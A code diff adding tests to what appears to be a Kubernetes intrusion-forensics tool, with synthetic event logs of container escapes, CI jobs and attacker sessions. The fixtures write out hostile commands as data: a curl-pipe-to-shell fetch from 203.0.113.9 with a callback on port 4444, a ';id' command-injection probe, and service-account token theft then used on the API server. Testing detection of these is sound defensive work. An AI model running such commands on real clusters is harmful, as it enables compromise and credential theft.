@@ -542,6 +542,32 @@ def test_an_escape_through_mount_and_chroot_to_cron_is_a_session_without_falco(t
     c_.close()
 
 
+def _host(pid: int, parent: dict, binary: str, args: str, t: str) -> tuple[dict, str]:
+    """A process on the node outside any pod (the host's)."""
+    p = {k: v for k, v in _proc(pid, parent["pid"], binary, args, t, init=False).items() if k not in ("pod", "docker")}
+    return p, json.dumps({"process_exec": {"process": p, "parent": parent}, "node_name": NODE, "time": t})
+
+
+def test_what_an_escape_left_running_on_the_host_is_listed(tmp_path):
+    bash, a = _run(50, SHIM, "/bin/bash", "", "2026-03-01T10:00:00Z")
+    _, b = _run(52, _ref(bash), "/usr/sbin/chroot", "/host /bin/bash", "2026-03-01T10:00:02Z")
+    cron = {"exec_id": _id(5), "pid": 5, "binary": "/usr/sbin/cron", "arguments": "-f"}
+    early, c = _host(40, cron, "/tmp/.early", "", "2026-03-01T09:00:00Z")  # before the escape
+    sh, d = _host(60, cron, "/bin/sh", "-c 'curl -s http://203.0.113.9/p | sh'", "2026-03-01T10:05:00Z")
+    payload, e = _host(62, _ref(sh), "/tmp/.p", "", "2026-03-01T10:05:01Z")
+    _, g = _host(63, cron, "/usr/sbin/logrotate", "/etc/logrotate.conf", "2026-03-01T10:06:00Z")  # routine
+    c_ = _case(tmp_path, [a, b, c, d, e, g, _connect(payload, _ref(sh), 41002, "203.0.113.9", 4444,
+                                                      "2026-03-01T10:05:02Z")])
+    f = H.derive_findings(c_)
+    assert f["attacker_pod"] == POD
+    assert [(r["binary"], r["parent"], r["what"]) for r in f["aftermath"]] == [
+        ("/tmp/.p", "/bin/sh -c 'curl -s http://203.0.113.9/p | sh'",
+         "run from a writable directory, connected out of the cluster")]
+    assert any(n.startswith("after the session's /usr/sbin/chroot /host /bin/bash, 1 suspicious process(es) ran "
+                            "on the node outside any pod") for n in f["notes"])
+    c_.close()
+
+
 def test_a_kubectl_cp_delivery_is_named(tmp_path):
     # `kubectl cp` = `tar xf - -C /tmp` exec'd into the container, then the tool exec'd from /tmp
     tar, a = _run(50, SHIM, "/bin/tar", "xf - -C /tmp", "2026-03-01T10:00:00Z")
@@ -553,4 +579,57 @@ def test_a_kubectl_cp_delivery_is_named(tmp_path):
     f = H.derive_findings(c_)
     assert f["flag_text"] == "/tmp/tool --scan 10.0.0.0/24"
     assert any(n.startswith("/tmp/tool was written or opened before it ran by /bin/tar xf - -C /tmp") for n in f["notes"])
+    c_.close()
+
+
+def _alert_on(pid: int, rule: str, priority: str, t: str) -> str:
+    return json.dumps({"hostname": NODE, "output": rule, "priority": priority, "rule": rule, "source": "syscall",
+                       "tags": [], "time": t, "output_fields": {"container.id": CID[:12], "proc.pid": pid,
+                                                                "k8s.pod.name": POD, "k8s.ns.name": "shop"}})
+
+
+def test_a_quiet_probe_in_the_same_pod_before_the_session_is_named_as_such(tmp_path):
+    # command injection: the intruder's first try (`;id`, alerted on as a shell, nothing below it)
+    server = {"exec_id": _id(10), "pid": 10, "binary": "/usr/local/bin/python3", "arguments": "app.py"}
+    probe = _exec(25, server, "/bin/sh", "-c 'curl -s x;id'", "2026-03-01T09:59:00Z")
+    c_ = _case(tmp_path, [probe, _alert_on(25, "Run shell untrusted", "Notice", "2026-03-01T09:59:00.1Z"),
+                          *_lines()])
+    f = H.derive_findings(c_)
+    assert f["entry"]["exec_id"] == _id(20)
+    note = [n for n in f["notes"] if "quiet session(s) ran in the same pod before the reported one" in n]
+    assert note and "-c 'curl -s x;id'" in note[0] and "administrator" not in " ".join(f["notes"])
+    c_.close()
+
+
+def test_ci_jobs_differing_only_in_ids_are_routine_and_the_intruders_exec_is_the_session(tmp_path):
+    # a CI agent runs its job script (new temp dir each time): git fetches from outside, go test
+    # downloads, kubectl deploys with a Notice alert; the intruder's kubectl exec reads the token
+    agent = {"exec_id": _id(10), "pid": 10, "binary": "/usr/bin/java", "arguments": "-jar agent.jar"}
+    lines: list[str] = []
+    for i, (job, t) in enumerate([("75999529", "08"), ("0a3f1c2d", "09"), ("1b2c3d4e", "11")]):
+        pid = 100 + 10 * i
+        sh, a = _run(pid, agent, "/bin/sh", f"-xe /home/ci/ws@tmp/durable-{job}/script.sh", f"2026-03-01T{t}:00:00Z")
+        git, b = _run(pid + 1, _ref(sh), "/usr/bin/git", "fetch https://github.com/acme/app.git", f"2026-03-01T{t}:00:01Z")
+        remote, c = _run(pid + 2, _ref(git), "/usr/lib/git-core/git-remote-https", "origin", f"2026-03-01T{t}:00:02Z")
+        go, d = _run(pid + 3, _ref(sh), "/usr/local/go/bin/go", "test ./...", f"2026-03-01T{t}:00:10Z")
+        kubectl, e = _run(pid + 4, _ref(sh), "/usr/local/bin/kubectl", "set image deploy/app", f"2026-03-01T{t}:01:00Z")
+        lines += [a, b, c, d, e, _connect(remote, _ref(git), 40000 + i, "140.82.112.3", 443, f"2026-03-01T{t}:00:03Z"),
+                  _connect(go, _ref(sh), 41000 + i, "142.250.74.17", 443, f"2026-03-01T{t}:00:11Z"),
+                  _connect(kubectl, _ref(sh), 42000 + i, "10.96.0.1", 443, f"2026-03-01T{t}:01:01Z"),
+                  _alert_on(pid + 4, "Contact K8S API Server From Container", "Notice", f"2026-03-01T{t}:01:01Z")]
+    bash, a = _run(300, SHIM, "/bin/bash", "", "2026-03-01T10:00:00Z")
+    cat, b = _run(301, _ref(bash), "/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/token",
+                  "2026-03-01T10:00:05Z")
+    token = json.dumps({"process_kprobe": {"process": cat, "parent": _ref(bash), "function_name": "security_file_open",
+                                           "args": [{"file_arg": {"path": "/var/run/secrets/kubernetes.io/serviceaccount/token"}}]},
+                        "node_name": NODE, "time": "2026-03-01T10:00:05.1Z"})
+    curl, c = _run(302, _ref(bash), "/usr/bin/curl", "-k https://10.96.0.1/api/v1/namespaces/payments/pods -d @p.json",
+                   "2026-03-01T10:00:20Z")
+    lines += [a, b, token, c, _alert_on(301, "Read sensitive file untrusted", "Warning", "2026-03-01T10:00:05.2Z"),
+              _connect(curl, _ref(bash), 43000, "10.96.0.1", 443, "2026-03-01T10:00:21Z")]
+    c_ = _case(tmp_path, lines)
+    entries = H.session_entries(c_)
+    assert entries["exec_id"].to_list() == [_id(300)]  # the jobs are routine, their downloads the build's
+    f = H.derive_findings(c_)
+    assert (f["attacker_pod"], f["entry"]["exec_id"]) == (POD, _id(300))
     c_.close()
